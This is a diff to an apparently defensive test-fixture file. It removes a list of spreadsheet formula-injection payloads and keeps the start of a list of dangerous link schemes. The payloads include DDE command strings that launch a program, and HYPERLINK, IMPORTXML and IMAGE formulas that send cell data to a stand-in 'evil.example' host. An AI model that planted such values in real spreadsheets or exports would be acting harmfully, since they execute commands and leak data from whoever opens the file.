@@ -1,25 +1,3 @@
-/** Beginnings that one spreadsheet program or another runs. */
-export const dangerousCells: readonly string[] = [
-  "=1+1",
-  '=HYPERLINK("https://evil.example?"&A1)',
-  "=cmd|' /C calc'!A0",
-  "+1+1",
-  "+cmd|' /C calc'!A0",
-  "-1+1",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)",
-  "@evil",
-  '=IMPORTXML("https://evil.example")',
-  '=IMAGE("https://evil.example")',
-  "＝1+1",
-  "＋1",
-  "－1",
-  "＠SUM(1)",
-  "==1",
-  '="a";="b"',
-  "=1,=2",
-];
-
 /** What a browser would run, or follow to where nobody meant. */
 export const dangerousLinks: readonly string[] = [
   "javascript:alert(1)//example.com",
